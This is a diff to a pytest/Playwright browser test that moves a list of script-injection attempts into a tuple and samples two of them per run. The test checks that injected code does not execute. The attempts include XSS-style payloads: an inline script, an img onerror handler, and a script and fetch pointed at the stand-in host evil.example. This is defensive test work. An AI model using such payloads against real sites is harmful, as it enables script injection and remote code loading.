@@ -9,6 +9,7 @@ import pytest
 from playwright.sync_api import expect
 
 from tests.ask import asked
+from tests.conftest import sampled
 from tests.pages.conftest import WATCH, patient
 from tests.pages.test_browser import PATIENCE, VIEWS, words
 from tests.pages.test_embedded import Host, elsewhere  # noqa: F401 - a fixture
@@ -86,19 +87,19 @@ def test_map_and_chart_do_all_that_they_can(watched):
     assert refused(watched) == []
 
 
-@pytest.mark.browser
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
-        "document.body.append(s)",
-        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
-        "document.body.append(s)",
-        "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 50)",
-        "fetch('https://evil.example/').catch(() => {})",
-    ],
+ATTEMPTS = (
+    "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
+    "document.body.append(s)",
+    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
+    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
+    "document.body.append(s)",
+    "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 50)",
+    "fetch('https://evil.example/').catch(() => {})",
 )
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("attempt", sampled(ATTEMPTS, 2))
 def test_what_slips_in_does_not_run(watched, attempt):
     watched.goto(VIEWS["nieuw"])
     watched.evaluate(f"() => {{ {attempt} }}")
